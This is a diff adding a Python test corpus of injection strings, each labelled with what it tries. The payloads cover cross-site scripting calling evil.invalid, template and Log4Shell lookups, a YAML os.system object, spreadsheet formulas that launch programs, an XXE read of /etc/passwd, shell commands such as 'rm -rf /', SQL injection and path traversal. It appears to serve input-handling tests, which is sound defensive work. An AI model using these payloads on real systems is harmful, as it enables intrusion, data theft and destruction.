@@ -1,0 +1,161 @@
+"""Strings that try to be more than text, each with what it tries. Our reader takes all of them, as text.
+
+None has a space at an end, two in a row, or less than four characters; so it stays as it is when it is read. None
+looks like a year or a number of the plan, so that it may stand in a label, and none begins like a list of names.
+"""
+
+MARKUP = {
+    "<script>steal()</script>": "a script",
+    "</title><script>steal()</script>": "a script after the title",
+    "</script><script>steal()</script>": "a script after ours",
+    "<img src=x onerror=steal()>": "a picture that is not there",
+    "<svg onload=steal()>": "a drawing that runs",
+    "<svg><script href=//evil.invalid/x.js></script></svg>": "a script of a drawing",
+    "<iframe srcdoc='<script>parent.steal()</script>'></iframe>": "a page in the page",
+    "<object data=//evil.invalid></object><embed src=//evil.invalid>": "a plug-in",
+    "<style>*{display:none}</style>": "a style that hides all",
+    "<link rel=stylesheet href=//evil.invalid/x.css>": "a style of others",
+    "<base href=//evil.invalid>": "another base for each link",
+    "<meta http-equiv=refresh content='0;url=//evil.invalid'>": "a visit elsewhere",
+    "<form action=//evil.invalid><button>Leave</button></form>": "a form",
+    "<details open ontoggle=steal()>": "an event that needs no click",
+    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>": "nesting that parsers read in two ways",
+    '<noscript><p title="</noscript><img src=x onerror=steal()>">': "markup that scripting changes",
+    "<template><script>steal()</script></template>": "a template",
+    "</p></li></td></article></main><h1>Taken</h1>": "an end of what holds it",
+    "</textarea></pre></code></option></select>": "an end of where text is kept as typed",
+    "<plaintext>": "no markup from here on",
+    "<b>bold</b> <h1>Heading</h1> <table><tr><td>cell": "harmless elements",
+    '"><svg onload=steal()>': "an end of an attribute in quotes",
+    "'><b>bold</b>": "an end of an attribute in apostrophes",
+    '" onmouseover="steal()': "one more attribute",
+    "' autofocus onfocus='steal()": "one more attribute, in apostrophes",
+    "x` onclick=`steal()": "one more attribute, in what old browsers took for quotes",
+    "&lt;script&gt;steal()&lt;/script&gt;": "entities that are read twice",
+    "&#60;script&#62;steal()": "entities by number",
+    "&amp;lt;b&amp;gt;": "entities of entities",
+    "&nbsp;&NewLine;&colon;&copy": "entities by name",
+}
+ADDRESSES = {
+    "javascript:steal()": "an address that runs",
+    "JaVaScRiPt:steal()": "the same in other letters",
+    "data:text/html,<script>steal()</script>": "a page in an address",
+    "//evil.invalid/x": "an address without a scheme",
+    "https://evil.invalid is here": "an address that some make a link of",
+    "<https://evil.invalid>": "a link of Markdown",
+    "www.evil.invalid?x": "a name that some make a link of",
+    "mailto:steal@evil.invalid": "an address to write to",
+}
+MARKDOWN = {
+    "[a](https://evil.invalid)": "a link",
+    "[b](javascript:steal())": "a link that runs",
+    "![c](https://evil.invalid/c.png)": "a picture",
+    "[d]: https://evil.invalid": "a link for later",
+    "**bold** __bold__ ~~gone~~ `code` $x^y$": "emphasis and code",
+    "# Heading": "a heading, or a comment of YAML",
+    "> quoted": "a quote, or a folded text of YAML",
+    "| a | b |": "a table",
+    "* item": "a list, or an alias of YAML",
+    "[^note] [[wiki]] ==mark== ++key++": "footnotes and marks",
+    ":smile: :material-close:": "pictures by name",
+    "{: onclick=steal() }": "attributes",
+    "!!! danger": "a box",
+    '--8<-- "data/site.yml"': "another file",
+    "<!-- comment --> <!--": "a comment that may not end",
+    "\\*escaped\\* \\<b>": "backslashes",
+    "``` python": "a block of code",
+}
+TEMPLATES = {
+    "{{ 977*983 }}": "a sum of Jinja",
+    "{% raw %}": "no Jinja from here on",
+    "{# gone #}": "a comment of Jinja",
+    "{% include 'data/site.yml' %}": "another file",
+    "{{ ''.__class__.__mro__ }} {{ plan.records.folder }}": "what the program knows",
+    "${977*983} #{977*983} <%= 977*983 %>": "sums of other templates",
+    "${jndi:ldap://evil.invalid/x}": "a look-up of a log",
+    "%(name)s {0} %s {name!r}": "formats of Python",
+    "__proto__ constructor[prototype]": "what every object of JavaScript has",
+}
+YAML = {
+    "&anchor *alias": "an anchor and an alias",
+    "!!python/object/apply:os.system [id]": "an object",
+    "? key : value": "a mapping",
+    "--- # end": "another document",
+    "null # lost": "nothing, and a comment",
+    "~ is nothing": "nothing, in short",
+    "- {a: b, <<: *c}": "a list with a mapping",
+    "|- block": "a block",
+    "%YAML directive": "a directive",
+    "yes: [no]": "a key",
+}
+SPREADSHEETS = {
+    "=977*983": "a formula",
+    '=HYPERLINK("https://evil.invalid","Click")': "a formula that is a link",
+    "=cmd|'/C calc'!A0": "a formula that starts a program",
+    "+cmd|'/C calc'!A0": "the same with a plus",
+    "-2+3+cmd|'/C calc'!A0": "the same with a minus",
+    "@SUM(A:A)*cmd|'/C calc'!A0": "the same with an at sign",
+    "＝977*983": "a formula with a full-width sign",  # noqa: RUF001 - the sign is meant
+    "'=already quoted": "an apostrophe that is its own",
+    "_x003D_977*983": "a character by its number, as Excel writes it",
+    "<r><t>forged</t></r>": "a part of the file of a workbook",
+    '"quoted","cell";"other"': "the end of a cell",
+    'a"b,c;d\\te|f': "what parts cells",
+}
+CALENDARS = {
+    "END:VEVENT\\nBEGIN:VEVENT": "another entry, by the line end of calendars",
+    "BEGIN:VALARM": "an alarm",
+    "ATTACH;VALUE=URI:https://evil.invalid": "an attachment",
+    "a\\;b\\,c\\\\d;e,f:g": "what calendars escape",
+    "\\r\\nSUMMARY:forged %0D%0ALocation: x": "line ends in other spellings",
+    "é" * 80: "a line that is folded inside a letter",
+}
+XML_AND_JSON = {
+    "]]></p><p>": "the end of a CDATA section",
+    "<![CDATA[x]]>": "a CDATA section",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>": "an entity of a file",
+    "&e; &xxe;": "entities that nobody declared",
+    "<?xml version='x'?> <?php system('id') ?>": "instructions",
+    "</script><!--<script>": "a comment that swallows the end of a script",
+    "\\u003cscript\\u003e \\x3c": "characters by their number",
+    '"}]},{"@id":"x"}': "the end of an object",
+}
+COMMANDS = {
+    "$(touch stolen)": "a command of a shell",
+    "`id`; rm -rf /": "another",
+    "| cat /etc/passwd": "a pipe",
+    "&& reboot": "one more command",
+    "Robert'); DROP TABLE plan;--": "a statement of SQL",
+    "' OR 'a'='a": "a condition of SQL",
+    "@everyone #667 fixes #1": "a mention, and an issue that it would close",
+    "../../etc/passwd": "a file outside",
+    "..\\..\\windows\\win.ini": "a file outside, on Windows",
+    "C:\\Windows\\System32\\con": "a device",
+    "file:///etc/passwd": "a file as an address",
+}
+LETTERS = {
+    "שלום עולם": "Hebrew: from right to left",
+    "مرحبا بالعالم": "Arabic: from right to left, and joined",
+    "😀🚩🎉🧨": "letters outside the first plane",
+    "Z\u0351\u036b\u0350ą\u0316lgo": "marks over and under a letter",
+    "İıẞ ﬁﬄ ǅ": "letters whose length changes with their case",
+    "½²①Ⅷ": "digits that are none",
+    "’single’ “double” „low‟ «angle» ″prime": "quotes of many sorts",
+    "नमस्ते สวัสดี": "letters that are drawn together",
+    "w" * 240: "a word that does not fit on a line",
+    "\u0301 mark": "a mark without a letter",
+}
+ATTACKS: dict[str, str] = {
+    **MARKUP,
+    **ADDRESSES,
+    **MARKDOWN,
+    **TEMPLATES,
+    **YAML,
+    **SPREADSHEETS,
+    **CALENDARS,
+    **XML_AND_JSON,
+    **COMMANDS,
+    **LETTERS,
+}
+CORPUS = list(ATTACKS)
+ATTACK = " ".join(CORPUS)  # all of them, for a test of one value
